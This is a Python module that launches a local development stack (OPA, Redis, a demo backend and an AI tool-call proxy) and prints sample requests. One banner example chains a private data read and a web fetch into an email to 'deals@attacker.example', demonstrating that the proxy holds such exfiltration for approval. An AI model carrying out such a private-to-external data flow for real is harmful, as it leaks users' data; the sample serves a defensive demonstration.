"""``toolproxy dev``: a local stack of real parts on loopback.

Owns: starting a real ``opa`` server on a Unix socket in the stack's private work directory (mode 0700),
as the chart runs it (watching ``policies/`` and the demo
data in ``examples/opa/``: roles, resource ownership, thresholds — or the
directories given with ``--policies`` / ``--opa-data``), a real
``redis-server``, the demo tool backend and the proxy serving the registry of
``--registry``, else the config's ``registry.paths``, else ``examples/registry``;
printing endpoints and sample requests; stopping every child on Ctrl-C/SIGTERM. Its secrets are
generated per run in its work directory, as the chart's Secrets would be: OPA's bearer token (OPA runs
with --authentication=token and proxy/policy/opa_authz.rego), Redis's password (``requirepass``;
``TOOLPROXY_REDIS_PASSWORD`` when set) and the record MAC key. ``TOOLPROXY_OPA_ADMIN_TOKEN``, when set,
is the OPA token with full access (for scripting the dev stack's policy data). Must never: be used
in production (the demo backend exposes a fault-control API).
"""

from __future__ import annotations

import argparse
import asyncio
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import urllib.request
from pathlib import Path
from typing import Any, Sequence

from ..config import ConfigError, JwtConfig, load_config
from ..policy.opa_control import AUTHZ_POLICY
from ..registry import RegistryError

REPO = Path(__file__).resolve().parents[2]  # proxy/authoring/devstack.py -> the repository


def find_binary(name: str) -> str:
    """A tool installed by scripts/setup.sh (venv bin) or on PATH."""
    candidate = Path(sys.prefix) / "bin" / name
    if candidate.is_file() and os.access(candidate, os.X_OK):
        return str(candidate)
    found = shutil.which(name)
    if found:
        return found
    raise FileNotFoundError(f"{name} not found: run scripts/setup.sh (it installs opa, redis-server and helm)")


def wait_http(url: str, timeout_s: float, proc: subprocess.Popen[bytes] | None = None) -> None:
    """Poll ``url`` until it answers 2xx, the process exits, or the bound passes."""
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if proc is not None and proc.poll() is not None:
            raise RuntimeError(f"process for {url} exited with {proc.returncode}")
        try:
            with urllib.request.urlopen(url, timeout=1) as response:
                if 200 <= response.status < 300:
                    return
        except OSError:
            pass
        time.sleep(0.05)
    raise TimeoutError(f"{url} did not become ready within {timeout_s}s")


def wait_opa(socket_path: str, timeout_s: float, proc: subprocess.Popen[bytes]) -> None:
    """Poll OPA's ``/health`` on its Unix socket until it answers 200, the process exits, or the bound passes."""
    import socket

    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(f"opa exited with {proc.returncode}")
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
                sock.settimeout(1)
                sock.connect(socket_path)
                sock.sendall(b"GET /health HTTP/1.0\r\nHost: localhost\r\n\r\n")
                if sock.recv(64).split(b" ")[1:2] == [b"200"]:  # "HTTP/1.x 200 OK"
                    return
        except OSError:
            pass
        time.sleep(0.05)
    raise TimeoutError(f"opa on {socket_path} did not become ready within {timeout_s}s")


def opa_command(address: str, paths: Sequence[str], watch: bool = True, *, authz: bool = True) -> list[str]:
    """``opa run`` listening on ``address`` (``unix:///path`` or ``host:port``); with ``authz`` it answers
    only the bearer tokens of proxy/policy/opa_authz.rego."""
    cmd = [find_binary("opa"), "run", "--server", "--addr", address, "--log-level", "error"]
    if watch:
        cmd.append("--watch")
    if authz:
        cmd += ["--authentication=token", "--authorization=basic", str(AUTHZ_POLICY)]
    return cmd + list(paths)


def opa_env(token: str, *, decision_path: str, catalog_push: bool) -> dict[str, str]:
    """The environment of an OPA run with ``opa_command(authz=True)``: who it admits, and where (policies
    can read OPA's environment, so no other TOOLPROXY_* variable, e.g. a Redis password, goes along)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("TOOLPROXY_")}
    if os.environ.get("TOOLPROXY_OPA_ADMIN_TOKEN"):
        env["TOOLPROXY_OPA_ADMIN_TOKEN"] = os.environ["TOOLPROXY_OPA_ADMIN_TOKEN"]
    return {**env, "TOOLPROXY_OPA_TOKEN": token, "TOOLPROXY_OPA_DECISION_PATH": decision_path,
            "TOOLPROXY_OPA_CATALOG_PUSH": "true" if catalog_push else "false"}


def redis_command(port: int, workdir: str, password: str = "") -> list[str]:
    # noeviction: the proxy refuses a Redis that may evict its records (proxy/eviction.py).
    cmd = [find_binary("redis-server"), "--port", str(port), "--bind", "127.0.0.1", "--save", "",
           "--appendonly", "yes", "--maxmemory-policy", "noeviction", "--dir", workdir]
    return cmd + (["--requirepass", password] if password else [])


def write_secret(path: Path, value: str) -> str:
    """A secret file only this user can read; returns its path."""
    path.touch(mode=0o600)
    path.write_text(value)
    return str(path)


def run_dev(args: argparse.Namespace) -> int:
    children: list[subprocess.Popen[bytes]] = []
    workdir = tempfile.mkdtemp(prefix="toolproxy-dev-")

    def start(cmd: list[str], **kw: object) -> subprocess.Popen[bytes]:
        proc = subprocess.Popen(cmd, cwd=REPO, **kw)  # type: ignore[call-overload]
        children.append(proc)
        return proc

    def stop_all() -> None:
        for proc in reversed(children):
            if proc.poll() is None:
                proc.terminate()
        for proc in reversed(children):
            try:
                proc.wait(timeout=5)
            except subprocess.TimeoutExpired:
                proc.kill()
        shutil.rmtree(workdir, ignore_errors=True)

    taken = taken_ports(args)
    if taken:
        print(f"toolproxy dev: {', '.join(taken)} already in use: stop what listens there, or choose free "
              f"ports with those options", file=sys.stderr)
        shutil.rmtree(workdir, ignore_errors=True)
        return 1
    try:
        import secrets

        policies = Path(args.policies) if args.policies else REPO / "policies"
        opa_data = Path(args.opa_data) if args.opa_data else REPO / "examples" / "opa"
        secret_dir = Path(workdir)
        opa_token = secrets.token_urlsafe(32)
        redis_password = os.environ.get("TOOLPROXY_REDIS_PASSWORD") or secrets.token_urlsafe(24)
        signing_key, backend_keys = _dev_call_token_key(secret_dir)
        opa_socket = str(secret_dir / "opa.sock")  # the work directory is 0700: nobody else can bind or reach it
        overrides = _dev_overrides(args, secret_dir, opa_socket, opa_token, redis_password, signing_key)
        dev_defaults = _dev_defaults(args)
        config = load_config(args.config, overrides=overrides, base=dev_defaults)
        opa = start(opa_command(f"unix://{opa_socket}", [str(policies), str(opa_data)]),
                    env=opa_env(opa_token, decision_path=config.opa.decision_path,
                                catalog_push=config.opa.push_catalog))
        redis = start(redis_command(args.redis_port, workdir, redis_password), stdout=subprocess.DEVNULL)
        backend = start([sys.executable, "-m", "examples.demo_backend", "--port", str(args.backend_port),
                         "--jwks-file", str(backend_keys)])
        wait_opa(opa_socket, 20, opa)
        wait_http(f"http://127.0.0.1:{args.backend_port}/healthz", 20, backend)
        _wait_redis(args.redis_port, redis, redis_password)
        approver_token = None
        if not _verifies_admin_tokens(config.admin_identity.jwt):
            overrides["admin_identity.jwt"], approver_token = _dev_approver(Path(workdir))
            config = load_config(args.config, overrides=overrides, base=dev_defaults)
    except (ConfigError, RegistryError, FileNotFoundError, RuntimeError, TimeoutError) as exc:
        print(f"toolproxy dev: {exc}", file=sys.stderr)
        stop_all()
        return 1

    from ..fronts.app import serve
    from ..event_loop import run_loop
    from ..telemetry.logs import configure as configure_logging
    configure_logging(config.log.level, config.log.format)
    _print_banner(args, approver_token, config.registry.paths, policies, opa_data, opa_socket, redis_password)

    async def main_async() -> None:
        stop = asyncio.Event()
        loop = asyncio.get_running_loop()
        for sig in (signal.SIGINT, signal.SIGTERM):
            loop.add_signal_handler(sig, stop.set)

        async def watch_children() -> None:
            while not stop.is_set():
                for proc in children:
                    if proc.poll() is not None:
                        print(f"toolproxy dev: child {proc.args[0]} exited ({proc.returncode}); stopping",
                              file=sys.stderr)
                        stop.set()
                await asyncio.sleep(0.5)

        watcher = asyncio.create_task(watch_children())
        try:
            await serve(config, stop=stop)
        finally:
            watcher.cancel()

    try:
        run_loop(main_async())
    except ConfigError as exc:  # found while opening the runtime (a backend service the registry names, ...)
        print(f"toolproxy dev: {exc}", file=sys.stderr)
        return 1
    except OSError as exc:  # a listener's port taken since the check above
        print(f"toolproxy dev: cannot listen: {exc.strerror or exc} ({', '.join(taken_ports(args)) or 'a port'}"
              f"): choose free ports with --proxy-port, --admin-port and --ops-port", file=sys.stderr)
        return 1
    finally:
        stop_all()
    return 0


def _dev_overrides(args: argparse.Namespace, secret_dir: Path, opa_socket: str, opa_token: str, redis_password: str,
                   signing_key: Path) -> dict[str, Any]:
    """The settings the stack fixes, whatever a --config says: the ports of the options, the OPA, Redis and
    backend it started, and the secrets it wrote under ``secret_dir``."""
    import secrets

    overrides: dict[str, Any] = {
        "listen.port": args.proxy_port, "admin.port": args.admin_port, "ops.port": args.ops_port,
        "opa.url": f"unix://{opa_socket}",
        "opa.token_file": write_secret(secret_dir / "opa-token", opa_token),
        "redis.url": f"redis://127.0.0.1:{args.redis_port}/0",
        "redis.password": redis_password,
        "integrity.mac_key_file": write_secret(secret_dir / "record-mac.key", secrets.token_hex(32)),
        # the key the demo backend verifies with (a --config cannot swap it for one the backend does not know)
        "call_tokens.signing_key_file": str(signing_key),
    }
    if args.registry:
        overrides["registry.paths"] = [str(Path(p).resolve()) for p in args.registry]
    return overrides


def _dev_defaults(args: argparse.Namespace) -> dict[str, Any]:
    """Defaults a --config (or TOOLPROXY_* variables) may replace: a fixed demo caller, the demo registry and
    its backend service, demo quotas (docs/quotas.md): every tenant gets a budget, and the quota class OPA
    data gives acme/noisy-bot (examples/opa/data.json) a smaller one."""
    return {"identity.mode": "static",
            "decisions.enabled": True,  # policy replay reads them (the banner says how)
            "quotas.tenant": "rate=50/1s burst=100 concurrency=20",
            "quotas.classes": {"reduced": "rate=2/1s burst=2 concurrency=1"},
            "registry.paths": [str(REPO / "examples" / "registry")],
            "backends.services": {"demo": f"http://127.0.0.1:{args.backend_port}"}}


def _verifies_admin_tokens(jwt_admin: JwtConfig) -> bool:
    """Whether the admin identity's JWT settings name a key (else the stack makes a dev approver's)."""
    return bool(jwt_admin.jwks_file or jwt_admin.jwks_url or jwt_admin.public_key_file or jwt_admin.hmac_secret_file)


def taken_ports(args: argparse.Namespace) -> list[str]:
    """The stack's ports something else already listens on, each as its option and value."""
    import socket

    taken = []
    for option in ("proxy_port", "admin_port", "ops_port", "redis_port", "backend_port"):
        port = getattr(args, option)
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as probe:
            # as the servers bind: a port whose last connections wait out TIME_WAIT is free to listen on
            probe.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                probe.bind(("127.0.0.1", port))
                probe.listen(1)
            except OSError:
                taken.append(f"--{option.replace('_', '-')} {port}")
    return taken


def _wait_redis(port: int, proc: subprocess.Popen[bytes], password: str) -> None:
    import socket
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(f"redis-server exited with {proc.returncode}")
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1) as sock:
                secret = password.encode()
                sock.sendall(b"*2\r\n$4\r\nAUTH\r\n$%d\r\n%s\r\n*1\r\n$4\r\nPING\r\n" % (len(secret), secret))
                answer = b""
                while answer.count(b"\r\n") < 2 and len(answer) < 512:
                    chunk = sock.recv(256)
                    if not chunk:
                        break
                    answer += chunk
                if answer.endswith(b"+PONG\r\n"):
                    return
        except OSError:
            pass
        time.sleep(0.05)
    raise TimeoutError("redis-server did not become ready")


def _dev_call_token_key(workdir: Path) -> tuple[Path, Path]:
    """A throw-away Ed25519 key that signs the dev proxy's call tokens, and its JWKS for the demo backend."""
    import json

    from ..calltokens import keys

    key = keys.signing_key(keys.generate("EdDSA"))  # kid: its thumbprint, as the proxy computes it
    private, public = workdir / "call-token-key.pem", workdir / "call-token-jwks.json"
    private.write_bytes(keys.private_pem(key.private))
    private.chmod(0o600)
    public.write_text(json.dumps(keys.jwks(key)))
    return private, public


def _dev_approver(workdir: Path) -> tuple[dict[str, object], str]:
    """A throw-away HS256 secret for the dev stack's admin listener and a token for it that is both
    approver and operator (the console shows every panel with it), with the ``tools:read`` scope: the demo
    OPA data grants the approver role the order reads a pending refund shows beside it (``related_read``)."""
    import secrets

    import jwt

    secret = secrets.token_hex(32)
    path = workdir / "dev-approver-secret"
    path.write_text(secret)
    now = int(time.time())
    token = jwt.encode({"iss": "toolproxy-dev", "aud": "toolproxy-admin", "sub": "dev-approver",
                        "roles": ["approver", "operator", "cross-tenant"], "scope": "tools:read", "iat": now, "exp": now + 12 * 3600}, secret, algorithm="HS256")
    return {"hmac_secret_file": str(path), "algorithms": ["HS256"], "issuer": "toolproxy-dev",
            "audience": "toolproxy-admin"}, token


def _print_banner(args: argparse.Namespace, approver_token: str | None, registry: Sequence[str],
                  policies: Path, opa_data: Path, opa_socket: str, redis_password: str) -> None:
    a = args.admin_port
    approvals = f"""
approvals (a refund above 50.00 needs one; the approver token below is for this dev stack only;
or decide in the console: http://127.0.0.1:{a}/ui and paste the token there):
  curl -s -X POST http://127.0.0.1:{args.proxy_port}/v1/tool-calls -H 'Content-Type: application/json' \\
       -H 'Idempotency-Key: refund-big-1' \\
       -d '{{"call_id":"c3","tool":"refund_order","arguments":{{"order_id":"ord_1001","amount":6000,"reason":"dup"}}}}'
  export APPROVER='{approver_token}'
  curl -s http://127.0.0.1:{a}/v1/approvals -H "Authorization: Bearer $APPROVER"
  curl -s -X POST http://127.0.0.1:{a}/v1/approvals/<approval_id>/approve -H "Authorization: Bearer $APPROVER"
  # then re-send the refund (same Idempotency-Key) with -H 'X-Approval-Id: <approval_id>'
""" if approver_token else ""
    console = (f"""  console       http://127.0.0.1:{a}/ui   (paste the dev approver/operator token there:
                {approver_token} )
""" if approver_token else f"""  console       http://127.0.0.1:{a}/ui   (sign in with an admin token of your admin_identity.jwt)
""")
    p = args.proxy_port
    print(f"""
toolproxy dev stack is up (Ctrl-C stops everything)
  agent API     http://127.0.0.1:{p}/v1/tool-calls   (GET /v1/tools lists contracts)
  MCP           http://127.0.0.1:{p}/mcp   (Streamable HTTP; any MCP client)
  OpenAI        http://127.0.0.1:{p}/v1/openai/tool-calls   (Chat tool_calls / Responses function_call items)
  admin API     http://127.0.0.1:{args.admin_port}
{console}  metrics       http://127.0.0.1:{args.ops_port}/metrics   probes: /healthz /readyz
  OPA           unix://{opa_socket}   (watching {policies} and {opa_data}: edits apply live;
                answers the proxy's bearer token only: set TOOLPROXY_OPA_ADMIN_TOKEN to script it with
                curl --unix-socket {opa_socket} http://localhost/v1/...)
  registry      {", ".join(map(str, registry))}
  Redis         redis://127.0.0.1:{args.redis_port}/0   (password: TOOLPROXY_REDIS_PASSWORD, or generated; this stack's:
                export TOOLPROXY_REDIS_PASSWORD='{redis_password}' )
  demo backend  http://127.0.0.1:{args.backend_port}   (fault switches: POST /_control/faults)

try:
  curl -s -X POST http://127.0.0.1:{p}/v1/tool-calls -H 'Content-Type: application/json' \\
       -d '{{"call_id":"c1","tool":"get_order","arguments":{{"order_id":"ord_1001"}}}}'
  curl -s -X POST http://127.0.0.1:{p}/v1/tool-calls -H 'Content-Type: application/json' \\
       -d '{{"call_id":"c2","tool":"refund_order","arguments":"{{\\"order_id\\":\\"ord_1001\\",\\"amount\\":\\"100\\",\\"reason\\":\\"dup\\"}}"}}'
idempotency (send the same request twice: the second is replayed, "replayed": true, backend not called):
  curl -s -X POST http://127.0.0.1:{p}/v1/tool-calls -H 'Content-Type: application/json' \\
       -H 'Idempotency-Key: refund-1' \\
       -d '{{"call_id":"c4","tool":"refund_order","arguments":{{"order_id":"ord_1002","amount":100,"reason":"dup"}}}}'
  # an unknown outcome: the backend commits, then drops the connection; the reconciler settles it
  curl -s -X POST http://127.0.0.1:{args.backend_port}/_control/faults -d '{{"tool":"refund_order","mode":"drop_after_commit","count":1}}'
  # re-send the refund with -H 'Idempotency-Key: refund-2', then watch it: GET /v1/operations/<idempotency_key>
cancellation and compensation (docs/transactions.md):
  curl -s -X POST http://127.0.0.1:{p}/v1/tool-calls -H 'Content-Type: application/json' -H 'Idempotency-Key: rpt-1' \\
       -d '{{"call_id":"c5","tool":"generate_report","arguments":{{"title":"q4","duration_ms":30000}}}}' &
  curl -s -X POST 'http://127.0.0.1:{p}/v1/operations/rpt-1:cancel?tool=generate_report'
  curl -s -X POST http://127.0.0.1:{p}/v1/tool-calls -H 'Content-Type: application/json' -H 'Idempotency-Key: rsv-1' \\
       -d '{{"call_id":"c6","tool":"reserve_inventory","arguments":{{"sku":"sku_widget","quantity":2,"order_id":"ord_1001"}}}}'
  curl -s -X POST 'http://127.0.0.1:{p}/v1/operations/rsv-1:compensate?tool=reserve_inventory'
data flow (docs/policy-authors.md#flow): a private read, then a web page, then an email out waits for a person:
  for body in '{{"call_id":"f1","tool":"get_user_preferences","arguments":{{"user_ref":"usr_alice"}}}}' \\
      '{{"call_id":"f2","tool":"fetch_page","arguments":{{"url":"https://shop.example/offers"}}}}' \\
      '{{"call_id":"f3","tool":"send_email","arguments":{{"to":"deals@attacker.example","subject":"hi","body":"en"}}}}'
  do curl -s -X POST http://127.0.0.1:{p}/v1/tool-calls -H 'Content-Type: application/json' \\
       -H 'X-Run-Id: flow-1' -d "$body"; echo; done
  # the send: approval_required (the approver sees flow_private_to_external); under X-Run-Id: flow-2 too
policy replay (decisions are recorded; docs/policy-authors.md): replay them against an edited policy:
  TOOLPROXY_REDIS_PASSWORD='{redis_password}' .venv/bin/toolproxy policy replay --redis redis://127.0.0.1:{args.redis_port}/0
{approvals}""", flush=True)
